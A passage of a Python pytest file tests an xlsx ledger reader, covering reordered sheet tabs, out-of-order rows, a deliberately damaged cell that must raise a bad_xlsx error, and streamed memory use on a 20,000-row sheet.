            path, "xl/worksheets/sheet1.xml", lambda x: re.sub(rb"<dimension[^>]*/>", new, x)
        )
    rows = list(xlsxfile.read_rows(path))
    assert rows == list(_reference_rows(path))
    assert [n for n, _ in rows] == list(range(1, 10))
    assert all(len(cells) == 6 for _, cells in rows)
    by_number = dict(rows)
    assert by_number[1] == [TITLE] * 6
    assert [by_number[n][1] for n in (3, 4, 5, 8, 9)] == ["第一方面"] * 3 + ["第二方面"] * 2
    assert by_number[6] == by_number[7] == [None] * 6
    assert by_number[5][3] == Formula("=TODAY()+30")
    assert by_number[3][3] == dt.datetime(2024, 1, 31)
    assert (by_number[3][5], by_number[9][5]) == ("纪要.pdf", "https://example.org/空.pdf")


@pytest.mark.parametrize("targets", ["absolute", "relative"])
def test_the_first_sheet_is_read_whatever_its_part_is_called(targets, tmp_path):
    """Sheet tabs reordered (the first sheet's part is sheet2.xml): that sheet and its merges."""
    book = openpyxl.Workbook()
    other = book.active
    other.title = "说明"
    other.append(["不是台账", "x"])
    other.append(["y", "z"])
    other.merge_cells("A1:A2")
    _merged_sheet(book.create_sheet("台账"))
    path = tmp_path / "两表.xlsx"
    book.save(path)

    def ledger_first(xml: bytes) -> bytes:  # what Excel writes when the tabs are swapped
        first, second = re.findall(rb"<sheet [^>]*/>", xml)
        return xml.replace(first + second, second + first)

    _rewritten(path, "xl/workbook.xml", ledger_first)
    if targets == "relative":  # as Excel writes them
        _rewritten(path, "xl/_rels/workbook.xml.rels", lambda x: x.replace(b'"/xl/', b'"'))
    with zipfile.ZipFile(path) as archive:
        assert xlsxfile._first_sheet_part(archive) == "xl/worksheets/sheet2.xml"
    read_only = openpyxl.load_workbook(path, read_only=True)
    try:
        assert read_only.worksheets[0]._worksheet_path == "xl/worksheets/sheet2.xml"
    finally:
        read_only.close()
    rows = list(xlsxfile.read_rows(path))
    assert rows == list(_reference_rows(path))
    assert rows[0] == (1, [TITLE] * 6)
    assert [cells[1] for _, cells in rows[2:5]] == ["第一方面"] * 3


def test_rows_out_of_order_are_read_whole_as_before(tmp_path):
    """Read-only mode would drop a row written before an earlier one; such a sheet is read whole."""
    book = openpyxl.Workbook()
    _merged_sheet(book.active)
    path = tmp_path / "乱序.xlsx"
    book.save(path)

    def swap(xml: bytes) -> bytes:
        row4, row5 = (re.search(rb'<row r="%d".*?</row>' % n, xml).group(0) for n in (4, 5))
        return xml.replace(row4 + row5, row5 + row4)

    _rewritten(path, "xl/worksheets/sheet1.xml", swap)
    rows = list(xlsxfile.read_rows(path))
    assert rows == list(_reference_rows(path))
    assert rows[3] == (4, ["1.2", "第一方面", "问题二", "2024/2/15", "德育处", None])


def test_a_cell_damaged_late_in_the_sheet_is_a_bad_xlsx(tmp_path):
    """Read-only mode parses cells as it goes: what it raises is still FileProblem bad_xlsx."""
    book = openpyxl.Workbook()
    _merged_sheet(book.active)
    path = tmp_path / "坏.xlsx"
    book.save(path)
    _rewritten(
        path,
        "xl/worksheets/sheet1.xml",
        lambda x: re.sub(rb'<c r="A9".*?</c>', b'<c r="A9" t="n"><v>x</v></c>', x),
    )
    with pytest.raises(FileProblem) as caught:
        list(xlsxfile.read_rows(path))
    assert (caught.value.code, caught.value.fields) == ("bad_xlsx", {"value": "ValueError"})


def test_a_large_sheet_is_read_in_a_fraction_of_the_memory(tmp_path):
    """20,000 rows: the streamed reading's peak is far below the whole workbook's.

    Measured (tracemalloc, openpyxl 3.1.5): about 2.4 MiB streamed against 17.5 MiB
    loaded whole. What remains grows slowly with the rows: openpyxl's read-only
    parser keeps each emptied ``<row>`` element until the sheet ends.
    """
    path = tmp_path / "大.xlsx"
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("台账")
    sheet.append(["编号", "问题"])
    for i in range(20_000):
        sheet.append([f"1.{i}", f"问题描述第{i}条"])
    book.save(path)
    small = tmp_path / "小.xlsx"
    _office_xlsx(small)
    for read in (xlsxfile.read_rows, _reference_rows):  # imports and caches out of the way
        list(read(small))

    def peak(read) -> int:
        gc.collect()  # the same start for both: what earlier tests left is not counted
        tracing = tracemalloc.is_tracing()
        if not tracing:
            tracemalloc.start()
        tracemalloc.reset_peak()
        base = tracemalloc.get_traced_memory()[0]
        try:
            assert sum(1 for _ in read(path)) == 20_001
            return tracemalloc.get_traced_memory()[1] - base
        finally:
            if not tracing:
                tracemalloc.stop()

    streamed, whole = peak(xlsxfile.read_rows), peak(_reference_rows)
    assert streamed < whole / 3, (streamed, whole)
